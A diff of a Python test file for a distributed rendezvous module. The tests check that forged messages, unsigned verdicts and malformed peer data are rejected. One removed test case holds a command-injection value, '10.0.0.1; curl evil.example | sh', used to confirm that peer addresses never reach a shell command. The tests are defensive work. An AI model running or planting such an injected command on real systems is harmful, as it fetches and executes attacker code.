@@ -106,47 +106,48 @@ def test_a_closed_door_ends_the_rendezvous_on_all(monkeypatch):
         assert "known on its own machine only" in refusal.problems[0].found
 
 
-STRANGE = [
-    *("[]", "no json", "{}", '[{"found": "x"}]', "[1]", "[" * 100_000, '["\\ud800"]'),
-    '[{"found": "x", "fix": "y", "where": "", "level": "odd", "topic": "z"}]',
-    '[{"found": "x", "fix": "", "where": "", "level": "failure", "topic": "z"}]',
-    '[{"found": "x", "fix": ["y"], "where": "", "level": "failure", "topic": "z"}]',
-]
-
-
-@pytest.mark.parametrize("text", STRANGE, ids=range(len(STRANGE)))
+@pytest.mark.parametrize("text", ["[]", "no json", "{}", '[{"found": "x"}]', "[1]"])
 def test_what_strangers_write_as_a_verdict_is_one_message(text):
     assert "another rank has ended the rendezvous" in str(module._verdict(text))
-
-
-def test_a_verdict_is_quoted_and_bounded():
-    sent = {"found": "x\n\x1b[1mrun this\u202e" * 1000, "fix": "y\n  fix: z", "where": "a\nb"}
-    message = str(module._verdict(json.dumps([{**sent, "level": "failure", "topic": "t"}])))
-    first, second = message.splitlines()
-    assert first.startswith('another rank: "x run thisx run this') and len(first) < 900
-    assert second == '  fix: "y fix: z"' and "\x1b" not in message and "\u202e" not in message
-
-
-@pytest.mark.parametrize(
-    "sent",
-    [
-        *({}, {"port": 99999, "address": "10.0.0.1; curl evil.example | sh"}, {"port": True}),
-        *({"port": "x", "address": "fe80::1%a;b"}, {"port": -1, "address": "a" * 300 + "."}),
-    ],
-    ids=range(5),
-)
-def test_a_hello_of_a_stranger_becomes_no_part_of_a_command(sent):
-    hello = module._hello_of(sent)
-    assert hello["address"] is None and hello["port"] == 0
-    hellos = [{"host": "anna", "address": None}, {"host": "berta", **hello}]
-    assert "evil" not in str(module._closed_route(hellos, 0, 1, addresses.FILTERED))
 
 
 def test_facts_of_strangers_are_no_facts():
     store, first = Store(dist.HashStore(), 0, timeout_s=60), endpoints(2)[0]
     store.set("forge/rendezvous/hello/1", "[1, 2]")
     peers = Liveness(store, 0, 2, timeout_s=60)
-    assert module._gather(first, peers, "hello", {"host": "anna"}) == [{"host": "anna"}, {}]
+    said = module._gather(first, peers, "hello", '{"host": "anna"}')
+    assert [module._dict(text) for text in said] == [{"host": "anna"}, {}]
+
+
+def test_a_man_who_changes_what_a_rank_says_is_noticed_by_all():
+    """He writes while two wait for the third, so that all read his word but the one it is of."""
+    *waiting, last = endpoints(3, own_address="127.0.0.1", secrets=[b"a long common secret"] * 3)
+
+    def forge():
+        store = dist.TCPStore("127.0.0.1", last.main_port, is_master=False)
+        key = "forge/rendezvous/hello/1"
+        hello = json.loads(store.get(key))  # waits for it
+        store.set(key, json.dumps({**hello, "port": hello["port"] + 1}))
+
+    def act(endpoint):
+        if endpoint is last:
+            forge()
+        return refusal_of(endpoint)
+
+    found = [str(refusal) for refusal in run_ranks([*waiting, last], act)]
+    assert all("could not prove to rank" in text for text in found)
+    assert "rank 1 (" in found[0] and "rank 1 (" in found[2] and "rank 0 (" in found[1]
+    assert all("somebody changes what the peers send" in text for text in found)
+
+
+def test_a_verdict_that_nobody_with_the_secret_has_signed_does_not_count():
+    first = endpoints(2, secrets=[b"a long common secret"] * 2)[0]
+    store = Store(dist.HashStore(), 0, timeout_s=60)
+    forged = json.dumps([{"topic": "x", "level": "failed", "found": "go away", "fix": "run me"}])
+    store.set(module.VERDICT, forged)
+    assert module._published(first, store) is None
+    module._publish(first, store, ForgeError("the disk is full", "make room"))
+    assert "the disk is full" in str(module._published(first, store))
 
 
 def test_many_names_are_cut_short():
